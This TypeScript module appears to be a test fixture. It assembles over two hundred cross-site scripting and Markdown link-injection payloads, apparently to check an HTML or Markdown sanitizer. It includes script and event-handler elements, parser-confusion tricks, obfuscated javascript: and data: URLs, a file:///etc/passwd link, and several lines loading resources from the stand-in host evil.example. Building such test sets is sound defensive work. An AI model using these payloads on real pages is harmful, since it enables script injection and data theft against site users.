import { HOSTILE_TEXTS } from "./hostile-texts.js";

/** What runs or loads something when a browser takes it for its own. */
const ELEMENTS = [
  "<script>window.hacked=1</script>",
  "<script src=//evil.example/a.js></script>",
  "<img src=x onerror=window.hacked=1>",
  "<img srcset='//evil.example/a.png 1x'>",
  "<svg/onload=window.hacked=1>",
  "<svg><animate onbegin=window.hacked=1 attributeName=x dur=1s>",
  "<svg><a xlink:href=javascript:window.hacked=1><text y=20>x</text></a></svg>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=window.hacked=1>#x'></svg>",
  "<math><maction actiontype=statusline xlink:href=javascript:window.hacked=1>x</maction></math>",
  "<iframe srcdoc='<script>parent.hacked=1</script>'></iframe>",
  "<iframe src=javascript:parent.hacked=1></iframe>",
  "<object data=javascript:window.hacked=1></object>",
  "<embed src=//evil.example/a.swf>",
  "<video poster=//evil.example/a.png><source src=//evil.example/a.mp4 onerror=window.hacked=1></video>",
  "<audio src=//evil.example/a.mp3 autoplay onloadstart=window.hacked=1>",
  "<link rel=stylesheet href=//evil.example/a.css>",
  "<link rel=prefetch href=//evil.example/p>",
  "<style>@import url(//evil.example/b.css);body{background:url(//evil.example/c.png)}</style>",
  "<p style='background:url(//evil.example/d.png)'>x</p>",
  "<base href=//evil.example/>",
  "<meta http-equiv=refresh content='0;url=//evil.example/'>",
  "<form action=//evil.example/ id=x><button form=x autofocus onfocus=window.hacked=1>x</button></form>",
  "<input autofocus onfocus=window.hacked=1>",
  "<details open ontoggle=window.hacked=1>x</details>",
  "<marquee onstart=window.hacked=1>x</marquee>",
  "<a href=javascript:window.hacked=1 ping=//evil.example/>x</a>",
  "<template><script>window.hacked=1</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=window.hacked=1>'>",
  "<xmp><p title='</xmp><svg onload=window.hacked=1>'>",
  "<textarea><script>window.hacked=1</script></textarea>",
];

/** Places of Markdown that take a text as something else than text. */
const PLACES: readonly ((inner: string) => string)[] = [
  (inner) => `> ${inner}`,
  (inner) => `# ${inner}`,
  (inner) => `| a |\n|---|\n| ${inner} |`,
  (inner) => `[${inner}](https://example.org)`,
  (inner) => `\`\`\`html ${inner}\n${inner}\n\`\`\``,
];

/** Addresses that are no web address, however they are written. */
const ADDRESSES = [
  "javascript:window.hacked=1",
  "JAVASCRIPT:window.hacked=1",
  "java\tscript:window.hacked=1",
  "&#x6A;avascript:window.hacked=1",
  "javascript&colon;window.hacked=1",
  "%6aavascript:window.hacked=1",
  "data:text/html;base64,PHNjcmlwdD53aW5kb3cuaGFja2VkPTE8L3NjcmlwdD4=",
  "data:image/svg+xml,<svg onload=window.hacked=1>",
  "vbscript:window.hacked=1",
  "file:///etc/passwd",
];
const LINKS: readonly ((address: string) => string)[] = [
  (address) => `[x](${address})`,
  (address) => `[x](<${address}>)`,
  (address) => `![x](${address})`,
  (address) => `[x]: ${address}\n\n[x]`,
];

/** Two hundred and more: each way in, in each place. */
export const HOSTILE_PAYLOADS: readonly string[] = [
  ...HOSTILE_TEXTS,
  ...ELEMENTS.flatMap((element) => PLACES.map((place) => place(element))),
  ...ADDRESSES.flatMap((address) => LINKS.map((link) => link(address))),
];
